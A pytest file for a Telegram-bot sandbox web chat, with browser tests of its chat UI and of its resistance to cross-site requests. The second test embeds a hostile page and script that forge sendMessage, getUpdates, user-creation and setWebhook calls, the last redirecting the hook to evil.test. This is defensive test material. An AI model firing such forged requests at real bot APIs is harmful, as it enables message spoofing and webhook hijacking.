"""The web chat in headless Chromium (Debian's /usr/bin/chromium, never a downloaded build):
a person picks a user, sends /start, sees the bot's reply and presses an inline button."""

from __future__ import annotations

import os
import shutil

import pytest

from relove.bot.texts import Texts
from tests.sandbox_fixtures import LiveBot

CHROMIUM = os.environ.get("RELOVE_CHROMIUM", "/usr/bin/chromium")
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]
TEXTS = Texts.load("ru")

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def chromium_path() -> str:
    if not (os.path.exists(CHROMIUM) or shutil.which(CHROMIUM)):
        pytest.fail(f"{CHROMIUM} is missing: run `make system-deps` (apt-get install chromium)")
    return CHROMIUM


async def test_web_chat_start_reply_and_button(live_bot: LiveBot, chromium_path: str) -> None:
    from playwright.async_api import async_playwright, expect

    user = await live_bot.new_user("Мария", last_name="<b>Ковалёва</b>", username="masha")
    async with async_playwright() as pw:
        browser = await pw.chromium.launch(executable_path=chromium_path, args=ARGS,
                                           headless=True)
        try:
            page = await browser.new_page(viewport={"width": 390, "height": 800})
            errors: list[str] = []
            page.on("pageerror", lambda e: errors.append(str(e)))
            await page.goto(f"{live_bot.sandbox.url}/")
            # Phone width: the user list first; names are shown as text, never as markup.
            entry = page.locator(f'li.user[data-user-id="{user["id"]}"]')
            await expect(entry).to_contain_text("Мария <b>Ковалёва</b>")
            await entry.click()
            await page.fill("#text", "/start")
            await page.press("#text", "Enter")
            welcome = TEXTS("welcome", name="Мария").splitlines()[0]
            await expect(page.locator(".msg.in .text").first).to_contain_text(welcome.strip())

            await page.fill("#text", "/forget")
            await page.click("#send")
            button = page.get_by_role("button", name=TEXTS("forget_cancel_button"))
            await expect(button).to_be_visible()
            await button.click()
            await expect(page.locator(".msg.in .text").last).to_have_text(
                TEXTS("forget_cancelled"))
            await expect(page.locator(".msg.in .meta").last).to_contain_text("edited")
            # formatting comes from entities: auto-detected commands, and MarkdownV2
            await expect(page.locator(".msg.in .text .link", has_text="/profile").first
                         ).to_be_visible()
            await live_bot.bot.send_message(user["id"], "*жирный* и ||спойлер|| relove\\.ru",
                                            parse_mode="MarkdownV2")
            await expect(page.locator(".msg.in .text strong").last).to_have_text("жирный")
            await expect(page.locator(".msg.in .text .spoiler").last).to_have_text("спойлер")
            await expect(page.locator(".msg.in .text a").last).to_have_attribute(
                "href", "http://relove.ru")
            assert errors == []
            if shots := os.environ.get("RELOVE_SCREENSHOTS"):  # for the docs, as tests/web does
                await page.screenshot(path=os.path.join(shots, "sandbox-chat.png"))
        finally:
            await browser.close()


EVIL_PAGE = """<!doctype html><meta charset="utf-8"><title>evil</title>
<iframe name="sink"></iframe>
<form id="f" method="post" target="sink" action="{sb}/bot{token}/sendMessage">
<input name="chat_id" value="{uid}"><input name="text" value="form"></form>
<img id="img" src="{sb}/bot{token}/sendMessage?chat_id={uid}&text=img">
<script src="/evil.js"></script>"""
EVIL_JS = """
const sb = %(sb)s, bot = sb + "/bot" + %(token)s, uid = %(uid)s;
const loaded = (el) => new Promise((ok) => { el.onload = ok; el.onerror = ok; });
const img = document.getElementById("img");
const imgDone = img.complete ? Promise.resolve() : loaded(img);
const frameDone = loaded(document.querySelector("iframe"));
document.getElementById("f").submit();
Promise.allSettled([
  imgDone, frameDone,
  fetch(bot + "/sendMessage?chat_id=" + uid + "&text=fetch", {mode: "no-cors"}),
  fetch(bot + "/sendMessage", {mode: "no-cors", method: "POST",
                               body: new URLSearchParams({chat_id: uid, text: "post"})}),
  fetch(bot + "/setWebhook?url=http%%3A%%2F%%2Fevil.test%%2Fhook", {mode: "no-cors"}),
  fetch(bot + "/getUpdates?offset=999", {mode: "no-cors"}),
  fetch(sb + "/api/users", {mode: "no-cors", method: "POST",
                            headers: {"Content-Type": "text/plain"},
                            body: JSON.stringify({first_name: "Evil"})}),
]).then(() => fetch("/done", {method: "POST"}));
"""


async def test_a_page_of_another_site_cannot_use_the_sandbox(sandbox, chromium_path: str) -> None:
    """A real browser on a page of another site fires every request a page can send without
    asking (img, form, no-cors fetch): the sandbox refuses each one and nothing changes."""
    import asyncio
    import json

    from aiohttp import web
    from playwright.async_api import async_playwright

    from relove.sandbox.core import DEFAULT_TOKEN

    uid = sandbox.world.add_user(first_name="Аня", started=True).id
    sandbox.user_send(uid, "pending update")
    done = asyncio.Event()
    values = {"sb": json.dumps(sandbox.url), "token": json.dumps(DEFAULT_TOKEN), "uid": uid}

    async def page(_: web.Request) -> web.Response:
        html = EVIL_PAGE.format(sb=sandbox.url, token=DEFAULT_TOKEN, uid=uid)
        return web.Response(text=html, content_type="text/html")

    async def script(_: web.Request) -> web.Response:
        return web.Response(text=EVIL_JS % values, content_type="text/javascript")

    async def finished(_: web.Request) -> web.Response:
        done.set()
        return web.Response(text="")

    app = web.Application()
    app.router.add_get("/", page)
    app.router.add_get("/evil.js", script)
    app.router.add_post("/done", finished)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
    try:
        async with async_playwright() as pw:
            browser = await pw.chromium.launch(
                executable_path=chromium_path, headless=True,
                args=[*ARGS, "--host-resolver-rules=MAP evil.test 127.0.0.1"])
            try:
                tab = await browser.new_page()
                await tab.goto(f"http://evil.test:{port}/")
                await asyncio.wait_for(done.wait(), 60)
            finally:
                await browser.close()
    finally:
        await runner.cleanup()
    assert [m.text for m in sandbox.world.chats[uid].messages.values()] == ["pending update"]
    assert sandbox.updates.webhook is None and len(sandbox.updates.pending) == 1
    assert len(sandbox.world.users) == 1
    assert sandbox.stats.refused["browser"] >= 7  # the page did reach the sandbox, 7 times
